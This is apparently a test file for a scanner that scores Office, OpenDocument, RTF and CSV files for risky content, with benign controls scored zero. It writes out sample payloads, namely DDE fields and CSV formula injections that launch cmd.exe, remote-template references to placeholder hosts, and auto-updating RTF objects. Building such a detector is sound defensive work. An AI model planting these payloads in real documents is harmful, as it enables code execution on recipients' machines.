import { checkTable } from '../testing/check-table.ts';
import {
  createBook,
  createOldBook,
  createOpenText,
  createRelated,
  createWord,
} from '../testing/office-samples.ts';
import { officeRow } from '../testing/rows.ts';
import { officeActs } from './office-acts.ts';

const field = (words: string) => `<w:p><w:r><w:instrText>${words}</w:instrText></w:r></w:p>`;
const template = (target: string) => createRelated('attachedTemplate', target);
const rtf = (words: string) => `{\\rtf1\\ansi ${words}}`;

checkTable(officeActs, [
  officeRow(
    'a template from elsewhere',
    ['note.docx', template('https://modeles-x.example/a.dotm')],
    0.9,
    'modeles-x.example',
  ),
  officeRow('its address in numbers', ['note.docx', template('&#x68;ttps://modeles-x.example/a.dotm')], 0.9),
  officeRow(
    'a template on a far computer',
    ['note.docx', template('file:///\\\\203.0.113.7\\s\\a.dotm')],
    0.9,
    '203.0.113.7',
  ),
  officeRow(
    'an object behind mhtml',
    [
      'note.docx',
      createRelated('oleObject', 'mhtml:https://x-y.example/a.html!x-usc:https://x-y.example/a.html'),
    ],
    0.9,
  ),
  officeRow(
    'a picture from a far disk',
    ['note.docx', createRelated('image', '\\\\serveur.example\\a.png')],
    0.9,
  ),
  officeRow(
    'a section of OpenDocument',
    ['note.odt', createOpenText('<text:section-source xlink:href="https://x-y.example/a.odt"/>')],
    0.9,
  ),
  officeRow(
    'a field over two runs',
    ['note.docx', createWord(field('DDEA') + field('UTO c:\\windows\\system32\\cmd.exe "/k calc"'))],
    1,
    'cmd.exe',
  ),
  officeRow(
    'a simple field',
    ['note.docx', createWord('<w:fldSimple w:instr="DDE cmd /k"></w:fldSimple>')],
    1,
  ),
  officeRow(
    'a linked service',
    [
      'liste.xlsx',
      createBook('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd" ddeTopic="/C calc"/>'),
    ],
    1,
    'cmd',
  ),
  officeRow('a formula in a table', ['liste.csv', "nom;classe\n=cmd|' /C calc'!A0;3B"], 1, 'cmd'),
  officeRow('behind a quote and a plus', ['liste.csv', '"+MSEXCEL|\'\\..\\..\\cmd.exe /c calc\'!A0"'], 1),
  officeRow('macros of Excel 4', ['liste.xls', createOldBook([0, 1])], 0.7, {
    fr: 'anciennes macros',
    en: 'macros of an old kind',
  }),
  officeRow(
    'the same in the new form',
    ['liste.xlsx', createBook('xl/macrosheets/sheet1.xml', '<xm:macrosheet/>')],
    0.7,
  ),
  officeRow(
    'an object that updates itself',
    ['note.rtf', rtf('{\\object\\objemb\\objupdate{\\*\\objdata 01}}')],
    0.8,
  ),
  officeRow('a template of rich text', ['note.doc', rtf('{\\*\\template https://x-y.example/a.dot}')], 0.9),
  officeRow('the sender’s own template', ['note.docx', template('file:///C:\\Users\\anne\\Normal.dotm')], 0),
  officeRow(
    'a template on a computer of the house',
    ['note.docx', template('file:///\\\\srv-modeles\\lettre.dotx')],
    0,
  ),
  officeRow(
    'a template of the académie',
    ['note.docx', template('https://intranet.ac-nancy-metz.fr/lettre.dotx')],
    0,
  ),
  officeRow(
    'a template of the ministry',
    ['note.docx', template('https://www.education.gouv.fr/lettre.dotx')],
    0,
  ),
  officeRow('a picture from the web', ['note.docx', createRelated('image', 'https://cdn.example/a.png')], 0),
  officeRow('links', ['note.docx', createRelated('hyperlink', 'https://eduscol.education.fr/')], 0),
  officeRow('a field with a page number', ['note.docx', createWord(field('PAGE \\* MERGEFORMAT'))], 0),
  officeRow('words about DDE', ['note.docx', createWord('<w:t>La DDE auto de la Meuse</w:t>')], 0),
  officeRow('telephone numbers', ['contacts.csv', 'Nom;Tel\nDupont;+33 6 12 34 56 78|domicile\n-5|-3 !'], 0),
  officeRow('sums', ['notes.csv', 'a;=A1+B1;=SOMME(A1:A3)'], 0),
  officeRow('a table of cells', ['notes.xls', createOldBook([0, 0, 2])], 0),
  officeRow('a letter', ['lettre.rtf', rtf('Bonjour \\par')], 0),
]);
